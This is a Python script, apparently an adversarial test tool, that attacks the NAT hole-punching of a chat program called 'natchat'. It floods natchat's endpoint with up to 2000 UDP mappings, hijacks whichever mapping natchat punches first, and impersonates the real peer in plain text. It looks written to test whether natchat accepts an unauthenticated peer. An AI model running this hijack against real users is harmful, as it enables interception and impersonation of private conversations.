#!/usr/bin/env python3
"""A thief behind the peer's symmetric NAT: it opens many more mappings toward natchat's public
endpoint than the peer does (one datagram from each of SOCKETS sockets, 2000 unless given,
again every few seconds), so that natchat's sweep of the peer's public address is likely to
punch one of its mappings first. A socket that hears from natchat's address then plays the
peer in plain text: it answers every punch, punches back at once and keeps punching, and sends
a line of its own every half second; it never offers a secure session. It prints every datagram
it gets, flushed, and stops after SECONDS.
    thief.py IP PORT SECONDS [SOCKETS]    (IP: natchat's public IPv4 address)"""
import resource
import selectors
import socket
import sys
import time

PUNCH_EVERY = 0.1
LINE_EVERY = 0.5
REFRESH_EVERY = 5.0
LINE = b"I am your peer, trust me"

target = (sys.argv[1], int(sys.argv[2]))
until = time.monotonic() + float(sys.argv[3])
count = int(sys.argv[4]) if len(sys.argv) > 4 else 2000


def raise_file_limit(needed):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft >= needed:
        return
    if hard == resource.RLIM_INFINITY or hard >= needed:
        resource.setrlimit(resource.RLIMIT_NOFILE, (needed, hard))
        return
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (needed, needed))  # root, where it may
    except (ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # as many as allowed


def send(sock, data, to):
    try:
        sock.sendto(data, to)
    except OSError:
        pass  # a full send buffer or an ICMP error of before: the next round sends again


raise_file_limit(count + 64)
sockets = []
for _ in range(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    s.bind(("0.0.0.0", 0))
    sockets.append(s)
selector = selectors.DefaultSelector()
for s in sockets:
    selector.register(s, selectors.EVENT_READ)
    send(s, b"KEEPALIVE", target)
print(f"mappings open: {len(sockets)}", flush=True)

# A socket that natchat punched: where natchat is, and when it gets its next punch and line.
hijacked = {}
refreshed = time.monotonic()
while True:
    now = time.monotonic()
    if now >= until:
        break
    due = [refreshed + REFRESH_EVERY, until]
    for to, punch_at, line_at in hijacked.values():
        due += [punch_at, line_at]
    for key, _ in selector.select(max(0.0, min(due) - now)):
        s = key.fileobj
        while True:
            try:
                data, source = s.recvfrom(65536)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                continue  # an ICMP error of an earlier send
            print(f"socket {s.getsockname()[1]} from {source[0]}:{source[1]}: {data!r}", flush=True)
            if source[0] != target[0]:
                continue
            if s not in hijacked:
                # Two punches in a row, as the peer's program would send from the socket it keeps.
                send(s, b"PUNCH", source)
                send(s, b"PUNCH", source)
                hijacked[s] = (source, time.monotonic() + PUNCH_EVERY, time.monotonic())
                print(f"hijacked socket {s.getsockname()[1]}: {len(hijacked)} so far", flush=True)
            if data.startswith(b"PUNCH") and not data.startswith(b"PUNCH_ACK"):
                send(s, b"PUNCH_ACK", source)
    now = time.monotonic()
    for s, (to, punch_at, line_at) in hijacked.items():
        if now >= punch_at:
            send(s, b"PUNCH", to)
            punch_at = now + PUNCH_EVERY
        if now >= line_at:
            send(s, LINE, to)
            line_at = now + LINE_EVERY
        hijacked[s] = (to, punch_at, line_at)
    if now >= refreshed + REFRESH_EVERY:
        for s in sockets:
            if s not in hijacked:
                send(s, b"KEEPALIVE", target)
        refreshed = now
print(f"done: {len(hijacked)} sockets hijacked", flush=True)
for s in sockets:
    s.close()
